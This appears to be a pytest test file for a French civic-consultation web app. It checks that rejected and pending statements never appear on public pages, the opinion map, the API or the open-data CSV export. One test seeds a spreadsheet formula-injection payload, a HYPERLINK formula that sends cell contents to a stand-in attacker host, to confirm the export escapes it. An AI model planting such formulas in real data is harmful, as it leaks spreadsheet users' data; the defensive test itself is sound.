"""Rejected statements, and unmoderated ones where moderation comes first, are never public."""

from __future__ import annotations

import pytest

from maillage.opinions import selectors, services
from maillage.opinions.models import Participant, Statement

pytestmark = pytest.mark.django_db

REJECTED = "Texte rejeté par la modération"
WAITING = "Texte en attente de modération"
SEEDS = [f"Proposition publique {i}" for i in range(10)]


@pytest.fixture
def conversation(personas):
    """Return a moderated-first conversation with votes, one rejected and one waiting statement."""
    conversation = services.conversation_create(
        territory=personas.commune,
        topic="La place",
        actor=personas.facilitator,
        seed_statements=SEEDS,
    )
    conversation.statements_need_moderation = True
    conversation.save(update_fields=["statements_need_moderation"])
    author = services.participant_get_or_create(
        conversation=conversation, person=None, cookie_key="author"
    )
    rejected = services.statement_submit(participant=author, text=REJECTED)
    services.statement_submit(participant=author, text=WAITING)
    services.statement_moderate(statement=rejected, actor=personas.facilitator, moderation=1)
    statements = list(conversation.statements.exclude(text=WAITING).order_by("id"))
    for p in range(12):
        participant = Participant.objects.create(conversation=conversation, cookie_hash=f"v{p}")
        for j, statement in enumerate(statements):
            value = 1 if (j % 2 == 0) == (p % 2 == 0) else -1
            services.vote_cast(participant=participant, statement=statement, value=value)
    services.analysis_compute(conversation)
    # Rejected after the map was computed, so the stored analysis still knows its id.
    services.statement_moderate(statement=rejected, actor=personas.facilitator, moderation=-1)
    return conversation


def test_the_report_page_shows_neither_rejected_nor_waiting_statements(client, conversation):
    page = client.get(f"/conversations/{conversation.slug}/rapport/").content.decode()
    assert SEEDS[3] in page
    assert REJECTED not in page and WAITING not in page


def test_the_moderation_page_names_each_statement_state_in_its_own_badge(client_as, conversation):
    page = client_as("facilitator").get(f"/conversations/{conversation.slug}/moderation/")
    html = page.content.decode()
    assert '<span class="status-pill status-rejected">rejetée</span>' in html
    assert '<span class="status-pill status-unmoderated">non modérée</span>' in html
    assert '<span class="status-pill status-accepted">acceptée</span>' in html


def test_the_conversation_page_and_its_map_show_neither(client, conversation):
    page = client.get(conversation.get_absolute_url()).content.decode()
    assert REJECTED not in page and WAITING not in page
    shown = selectors.opinion_map(conversation, selectors.analysis_of(conversation), None)
    assert shown is not None
    texts = {c["text"] for c in shown["consensus"]} | {s["text"] for s in shown["top_consensus"]}
    texts |= {r["text"] for g in shown["groups"] for r in g["representative"]}
    assert REJECTED not in texts and "" not in texts


def test_the_open_data_statements_leave_them_out(client, conversation):
    text = b"".join(client.get("/open-data/opinion-statements.csv").streaming_content).decode()
    assert SEEDS[3] in text
    assert REJECTED not in text and WAITING not in text


def test_the_api_names_no_hidden_statement_even_by_id(client, conversation):
    hidden = set(
        conversation.statements.filter(text__in=[REJECTED, WAITING]).values_list("pk", flat=True)
    )
    data = client.get(f"/api/opinions/conversations/{conversation.slug}").json()
    assert {s["id"] for s in data["statements"]}.isdisjoint(hidden)
    analysis = data["analysis"]
    assert {s["id"] for s in analysis["statements"]}.isdisjoint(hidden)
    for group in analysis["groups"]:
        assert {int(sid) for sid in group["votes"]}.isdisjoint(hidden)
        assert {r["statement_id"] for r in group["representative"]}.isdisjoint(hidden)


def test_the_list_counts_only_public_statements(conversation):
    listed = selectors.conversation_list().get(pk=conversation.pk)
    assert listed.statement_count == len(SEEDS)


def test_a_waiting_statement_takes_no_vote(conversation):
    waiting = conversation.statements.get(text=WAITING)
    voter = services.participant_get_or_create(
        conversation=conversation, person=None, cookie_key="late"
    )
    with pytest.raises(services.ConversationConflict, match="awaits moderation"):
        services.vote_cast(participant=voter, statement=waiting, value=1)


def test_unmoderated_statements_are_public_where_moderation_is_not_first(personas):
    conversation = services.conversation_create(
        territory=personas.commune,
        topic="Sans modération",
        actor=personas.facilitator,
        seed_statements=["Une première proposition"],
    )
    author = services.participant_get_or_create(
        conversation=conversation, person=None, cookie_key="a"
    )
    statement = services.statement_submit(participant=author, text="Visible aussitôt")
    statement.moderation = Statement.Moderation.UNMODERATED
    statement.save(update_fields=["moderation"])
    assert statement in list(selectors.visible_statements(conversation))


def test_a_statement_written_as_a_formula_is_published_as_text(client, personas):
    conversation = services.conversation_create(
        territory=personas.commune,
        topic="Formules",
        actor=personas.facilitator,
        seed_statements=['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'],
    )
    assert conversation.statements.count() == 1
    text = b"".join(client.get("/open-data/opinion-statements.csv").streaming_content).decode()
    assert "'=HYPERLINK(" in text
    assert ',"=HYPERLINK(' not in text and ",=HYPERLINK(" not in text
